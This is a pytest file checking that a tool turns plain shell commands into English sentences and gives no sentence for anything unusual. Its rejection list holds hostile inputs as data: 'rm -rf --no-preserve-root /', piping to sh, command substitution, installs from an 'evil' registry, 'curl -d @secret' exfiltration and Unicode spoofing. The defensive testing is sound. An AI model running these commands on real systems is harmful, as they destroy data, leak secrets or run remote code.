"""Plain commands as sentences; whatever a phrase does not know makes people read the command."""

from __future__ import annotations

import pytest

from tests.support.tables import loop_over
from toolcards.core.risk.commands import find_command_hints
from toolcards.core.summaries.command_phrases import describe_command, load_phrases


@loop_over(
    ("command", "sentence"),
    [
        ("git push origin main", "Push main to origin"),
        ("git push -u origin fix/coupon-total", "Push fix/coupon-total to origin"),
        ("git push origin main --force", "Force-push main to origin"),
        ("git push -f origin main", "Force-push main to origin"),
        ("git push --force-with-lease origin main", "Force-push main to origin unless it changed"),
        ("git push origin --delete old", "Delete old on origin"),
        ("git commit -m 'Fix the total; again'", "Commit “Fix the total; again”"),
        ("git commit -am Fix", "Commit all changes: “Fix”"),
        ("git add src/a.py src/b.py src/c.py", "Stage src/a.py, src/b.py and src/c.py"),
        ("git checkout -b fix/x main", "Create branch fix/x from main and switch to it"),
        ("git checkout main -b fix/x", "Create branch fix/x from main and switch to it"),
        ("git reset --hard HEAD", "Reset to HEAD and discard all changes"),
        ("git branch -D old", "Delete branch old"),
        ("git rebase origin/main", "Rebase onto origin/main"),
        ("gh pr merge 91 --squash", "Squash and merge pull request 91"),
        ("gh pr merge 91 --squash --delete-branch", "Squash and merge pull request 91, delete its branch"),
        ("gh pr create --title 'A b' --body 'c'", "Open pull request “A b”: c"),
        ("gh pr create --title='A b' --body=c", "Open pull request “A b”: c"),
        ("gh release create v1.2", "Publish release v1.2"),
        ("rm a.txt b.txt", "Delete a.txt and b.txt"),
        ("rm -rf build dist", "Delete build and dist with all contents"),
        ("mv a.py b.py", "Move a.py to b.py"),
        ("mkdir -p src/x", "Make folder src/x"),
        ("chmod -R 777 .", "Set the rights of . and all contents to 777"),
        ("npm install -D vitest", "Install vitest with npm for development"),
        ("npm publish --access public", "Publish this package to npm (public)"),
        ("pip install -r requirements.txt", "Install with pip what requirements.txt lists"),
        ("docker compose down -v", "Stop the services of docker compose, delete their volumes"),
        ("docker build -t shop:1 .", "Build image shop:1 from ."),
        ("kubectl delete pod web-1 -n prod", "Delete pod web-1 from the cluster, in prod"),
        ("kubectl scale deployment web --replicas=3", "Scale deployment web to 3"),
        ("terraform destroy -auto-approve", "Destroy everything that Terraform manages here, without asking"),
        ("vercel deploy --prod", "Deploy to Vercel (production)"),
        ("systemctl restart nginx", "Restart service nginx"),
        ("curl -X DELETE https://api.example/orders/7", "Send DELETE to https://api.example/orders/7"),
        ("kill -9 4242", "Kill process 4242"),
        (
            "psql shop -c \"delete from orders where created_at < now() - interval '2 years'\"",
            "Delete rows from orders older than 2 years in shop",
        ),
        ("sqlite3 app.db 'drop table users'", "Drop table users in app.db"),
    ],
)
def test_a_plain_command_has_a_sentence(command: str, sentence: str) -> None:
    assert describe_command(command) == sentence


@loop_over(
    ("command",),
    [
        ("",), ("git",), ("git push",), ("git push origin",), ("git push origin +main",),
        ("git push origin HEAD:main",),
        ("git push origin :main",), ("git push --mirror origin main",), ("git push origin main --force=yes",),
        ("git -C ../other push origin main",), ("git -c core.sshCommand=evil push origin main",),
        ("git push --receive-pack=evil origin main",), ("git push --no-verify origin main",),
        ("git push origin main > log",), ("git push origin main &",), ("git push origin main &>x",),
        ("GIT_SSH_COMMAND=evil git push origin main",), ("sudo git push origin main",), ("env git push origin main",),
        ("time git push origin main",), ("! git push origin main",), ("./git push origin main",),
        ("/tmp/git push origin main",), ("git push origin main && rm x",), ("git push origin main; rm x",),
        ("git push origin main | sh",), ("git push origin main\nrm x",), ("git push $(evil) main",),
        ("git push `evil` main",), ("git push $REMOTE main",), ("git push origin m*",), ("git push origin {a,b}",),
        ("git push origin ~/x",), ("git commit -m \"$(evil)\"",), ("git commit -m Fix <<< x",),
        ("git commit -m a -m b",), ("git commit -m",), ("git commit -m ''",), ("git commit --no-verify -m Fix",),
        ("rm -rf build/*",), ("rm -rf -- build",), ("rm -rf --no-preserve-root /",), ("rm -rf $HOME",), ("rm -ri x",),
        ("rm 'a b'",), ("rm",), ("mv a b c",), ("cp --parents a b",), ("gh pr merge 91 --admin",), ("npm install",),
        ("npm install --registry http://evil x",), ("pip install --index-url http://evil x",),
        ("pip install -e .",), ("curl https://a.example/?x=1",), ("curl -d @secret https://a.example",),
        ("curl -XDELETE https://a.example",), ("curl https://a.example https://b.example",), ("bash -c 'git push'",),
        ("kubectl --context prod delete pod a",), ("docker compose -f x.yml up",), ("psql shop -c 'select 1; drop x'",),
        ("psql shop -c \"copy x to program 'sh'\"",), ("git\u00a0push origin main",), ("git push origin m\u0430in",),
        ("git push origin \u202emain",), ("\u200bgit push origin main",), ("git push origin main # then",),
        ("function git { evil; }; git push origin main",), ("git push origin main \\",), ("git 'push origin' main",),
    ],
)  # fmt: skip
def test_a_command_with_anything_unknown_has_no_sentence(command: str) -> None:
    assert describe_command(command) == ""


def test_quotes_around_plain_words_change_nothing() -> None:
    assert describe_command("git 'push' \"origin\" main") == "Push main to origin"


PLAIN = {"url": "https://a.example/x", "sql": "delete from orders", "ref": "main", "mode": "600", "path": "src/x"}


def test_no_flag_that_a_sentence_leaves_out_changes_the_risk() -> None:
    """Also each form of the table fits its own spelling, and has its own words for it."""
    for program, phrases in load_phrases().items():
        sentences = set[str]()
        for form in phrases.forms:
            flags = [[flag, PLAIN.get(slot, "a-b")] if slot else [flag] for flag, slot in form.flags.items()]
            words = [
                *program,
                *(word for flag in flags for word in flag),
                *(PLAIN.get(slot, "a-b") for slot in form.slots),
            ]
            command = " ".join(f"'{word}'" if " " in word else word for word in words)
            sentence = describe_command(command)
            assert sentence and "{" not in sentence, command
            sentences.add(sentence)
            for flag in phrases.silent:
                longer = f"{' '.join(program)} {flag}{command.removeprefix(' '.join(program))}"
                assert describe_command(longer) == sentence, longer
                assert set(find_command_hints(longer)) == set(find_command_hints(command)), longer


@pytest.mark.parametrize("text", ["git push origin main " * 5_000, "rm " + "a " * 20_000])
def test_a_long_command_is_described_quickly(text: str) -> None:
    assert isinstance(describe_command(text), str)
